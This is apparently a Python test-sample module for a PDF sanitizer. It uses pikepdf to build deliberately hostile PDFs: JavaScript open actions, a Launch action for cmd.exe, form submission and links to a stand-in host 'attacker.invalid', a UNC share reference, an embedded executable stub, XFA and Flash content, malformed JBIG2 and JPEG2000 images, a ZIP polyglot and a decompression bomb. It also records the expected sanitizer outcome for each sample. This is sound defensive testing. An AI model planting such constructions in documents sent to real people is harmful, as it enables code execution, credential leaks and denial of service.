"""PDF samples: one per way of being active, and pictures in codecs with a history of exploits."""

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from kencho.files.sanitize import Action, Kind, Reason, Removed
from kencho.files.tests.sanitize.samples._sample import Sample, clean, refused

ADDRESS = "http://attacker.invalid/x"
SHARE = "\\\\attacker.invalid\\share\\x.pdf"


def script(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String(code))


def document(
    change: Callable[[pikepdf.Pdf], None] | None = None, *, text: str = "Hello Mie", pages: int = 1
) -> bytes:
    """A text PDF, changed as the sample needs."""
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        for number in range(1, pages + 1):
            page = pdf.add_blank_page(page_size=(595, 842))
            page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
            marks = f"BT /F1 24 Tf 72 700 Td ({text} {number}) Tj ET"
            page.obj.Contents = pdf.make_stream(marks.encode())
        if change is not None:
            change(pdf)
        pdf.save(buffer)
    return buffer.getvalue()


def first(pdf: pikepdf.Pdf) -> Any:
    return pdf.pages[0].obj


def open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = script()


def named_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script()])))


def page_actions(pdf: pikepdf.Pdf) -> None:
    first(pdf).AA = Dictionary(O=script(), C=script())


def annotate(pdf: pikepdf.Pdf, **entries: Any) -> Any:
    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[10, 10, 90, 40], **entries))
    first(pdf).Annots = Array([note])
    return note


def field_script(pdf: pikepdf.Pdf) -> None:
    field = annotate(
        pdf, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("f"), AA=Dictionary(K=script(), F=script())
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))


def launch(pdf: pikepdf.Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe")))


def link(pdf: pikepdf.Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=pikepdf.String(ADDRESS)))


def remote(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.GoToR, F=pikepdf.String(SHARE), D=Array([0, Name.Fit]), NewWindow=True)
    annotate(pdf, Subtype=Name.Link, A=action)


def embedded(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["x.exe"] = b"MZ not a program"


def forms_architecture(pdf: pikepdf.Pdf) -> None:
    template = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=template)


def rich_media(pdf: pikepdf.Pdf) -> None:
    data = pdf.make_stream(b"FWS movie", Type=Name.EmbeddedFile)
    asset = Dictionary(Type=Name.Filespec, F=pikepdf.String("a.swf"), EF=Dictionary(F=data))
    content = Dictionary(Assets=Dictionary(Names=Array([pikepdf.String("a.swf"), asset])))
    annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=content)


def submit(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=pikepdf.String(ADDRESS))
    field = annotate(pdf, Subtype=Name.Widget, FT=Name.Btn, T=pikepdf.String("b"), A=action)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def hidden_chain(pdf: pikepdf.Pdf) -> None:
    """An action behind an innocent one, and a stray object that nothing refers to from the page."""
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([first(pdf), Name.Fit]), Next=Array([script()]))
    pdf.Root.PieceInfo = Dictionary(X=Dictionary(Private=script("this.exportDataObject()")))


def picture(pdf: pikepdf.Pdf, data: bytes, **entries: Any) -> None:
    image = pdf.make_stream(data, Type=Name.XObject, Subtype=Name.Image, **entries)
    first(pdf).Resources.XObject = Dictionary(I=image)
    first(pdf).Contents = pdf.make_stream(
        b"q 200 0 0 200 50 400 cm /I Do Q BT /F1 24 Tf 72 700 Td (Text) Tj ET"
    )


def jbig2(pdf: pikepdf.Pdf) -> None:
    entries = {"Width": 32, "Height": 32, "BitsPerComponent": 1, "ColorSpace": Name.DeviceGray}
    picture(pdf, b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\0" * 19, **entries, Filter=Name.JBIG2Decode)


def jpeg2000(pdf: pikepdf.Pdf) -> None:
    picture(pdf, b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 40, Width=32, Height=32, Filter=Name.JPXDecode)


def inline_jbig2(pdf: pikepdf.Pdf) -> None:
    marks = b"q 9 0 0 9 9 9 cm BI /W 8 /H 8 /BPC 1 /CS /G /F /JBIG2Decode ID aaaaaaaa EI Q"
    first(pdf).Contents = pdf.make_stream(marks)


def unknown_operator(pdf: pikepdf.Pdf) -> None:
    first(pdf).Contents = pdf.make_stream(
        b"BX /X evil EX BT /F1 24 Tf 72 700 Td (Hello Mie) Tj ET /OC /M BDC EMC"
    )


def form_loop(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    first(pdf).Resources.XObject = Dictionary(X=form)


def hidden_layer(pdf: pikepdf.Pdf) -> None:
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=pikepdf.String("draft")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


def signed(pdf: pikepdf.Pdf) -> None:
    look = pdf.make_stream(b"0.8 g 0 0 80 30 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 80, 30])
    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=pikepdf.String(b"\0" * 32))
    field = annotate(
        pdf, Subtype=Name.Widget, FT=Name.Sig, T=pikepdf.String("s"), V=value, AP=Dictionary(N=look), F=4
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


def undrawn_field(pdf: pikepdf.Pdf) -> None:
    field = annotate(
        pdf, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("f"), V=pikepdf.String("津市"),
        DA=pikepdf.String("/Helv 12 Tf"),
    )  # fmt: skip
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)


def profile(pdf: pikepdf.Pdf) -> None:
    icc = pdf.make_stream(b"evil profile", N=3)
    entries = {"Width": 2, "Height": 2, "BitsPerComponent": 8, "ColorSpace": Array([Name.ICCBased, icc])}
    picture(pdf, b"\xff\0\0" * 4, **entries)


def calculator(pdf: pikepdf.Pdf) -> None:
    tint = pdf.make_stream(b"{ (x) run }", FunctionType=4, Domain=[0, 1], Range=[0, 1, 0, 1, 0, 1])
    space = Array([Name.Separation, Name.Spot, Name.DeviceRGB, tint])
    first(pdf).Resources.ColorSpace = Dictionary(C=space)


def font_tables(pdf: pikepdf.Pdf) -> None:
    program = pdf.make_stream(b"not a font at all")
    descriptor = Dictionary(Type=Name.FontDescriptor, FontName=Name.X, Flags=4, FontFile2=program)
    font = Dictionary(Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.X, FontDescriptor=descriptor)
    first(pdf).Resources.Font.F2 = font


def encrypted(owner_only: bool) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(document())) as pdf:
        user = "" if owner_only else "secret"
        pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner", user=user))
    return buffer.getvalue()


def with_archive() -> bytes:
    buffer = io.BytesIO(document())
    buffer.seek(0, io.SEEK_END)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("x.js", "WScript.Echo(1)")
    return buffer.getvalue()


def broken_table() -> bytes:
    """The cross-reference table is gone and the end is cut; the objects are there."""
    data = document()
    return data[: data.rfind(b"xref")]


def stream_bomb() -> bytes:
    """A page whose marks unpack to 300 MB."""
    packer = zlib.compressobj(9)
    block = b"0 0 m " * 170_000
    packed = b"".join(packer.compress(block) for _ in range(300)) + packer.flush()

    def change(pdf: pikepdf.Pdf) -> None:
        first(pdf).Contents = pdf.make_stream(packed, Filter=Name.FlateDecode)

    return document(change)


def huge_picture(pdf: pikepdf.Pdf) -> None:
    picture(pdf, b"x", Width=60_000, Height=60_000, BitsPerComponent=8, ColorSpace=Name.DeviceRGB)


def pdf_samples() -> list[Sample]:
    """Every PDF sample."""
    removed = Removed
    rebuilt: list[tuple[str, Callable[[pikepdf.Pdf], None], list[Removed]]] = [
        ("open_action", open_action, [removed.OPEN_ACTION, removed.JAVASCRIPT]),
        ("named_script", named_script, [removed.JAVASCRIPT]),
        ("page_actions", page_actions, [removed.ADDITIONAL_ACTIONS, removed.JAVASCRIPT]),
        ("field_script", field_script, [removed.JAVASCRIPT, removed.FORM]),
        ("launch", launch, [removed.LAUNCH, removed.ANNOTATION]),
        ("link", link, [removed.LINK, removed.ANNOTATION]),
        ("remote", remote, [removed.REMOTE_TARGET]),
        ("embedded", embedded, [removed.EMBEDDED_FILE]),
        ("xfa", forms_architecture, [removed.XFA]),
        ("rich_media", rich_media, [removed.RICH_MEDIA]),
        ("submit", submit, [removed.FORM_ACTION]),
        ("hidden_chain", hidden_chain, [removed.JAVASCRIPT]),
        ("unknown_operator", unknown_operator, [removed.UNKNOWN_OPERATOR]),
        ("signed", signed, [removed.SIGNATURE]),
        ("profile", profile, [removed.COLOUR_PROFILE]),
    ]
    drawn: list[tuple[str, Callable[[pikepdf.Pdf], None]]] = [
        ("jbig2", jbig2),
        ("jpeg2000", jpeg2000),
        ("inline_jbig2", inline_jbig2),
        ("form_loop", form_loop),
        ("hidden_layer", hidden_layer),
        ("undrawn_field", undrawn_field),
        ("calculator", calculator),
        ("font_tables", font_tables),
    ]

    def made(change: Callable[[pikepdf.Pdf], None]) -> Callable[[], bytes]:
        return lambda: document(change)

    return [
        *(clean(f"pdf_{name}", Kind.PDF, made(change), *words) for name, change, words in rebuilt),
        *(clean(f"pdf_{name}", Kind.PDF, made(change), action=Action.RASTERISED) for name, change in drawn),
        clean("pdf_zip_polyglot", Kind.PDF, with_archive),
        clean("pdf_broken_table", Kind.PDF, broken_table),
        clean("pdf_owner_password", Kind.PDF, lambda: encrypted(owner_only=True), removed.ENCRYPTION),
        refused("pdf_password", Reason.ENCRYPTED, lambda: encrypted(owner_only=False)),
        refused("pdf_rubbish", Reason.BROKEN, lambda: b"%PDF-1.7\n" + b"rubbish " * 50),
        refused("pdf_stream_bomb", Reason.BOMB, stream_bomb),
        refused("pdf_huge_picture", Reason.TOO_MANY_PIXELS, made(huge_picture)),
    ]
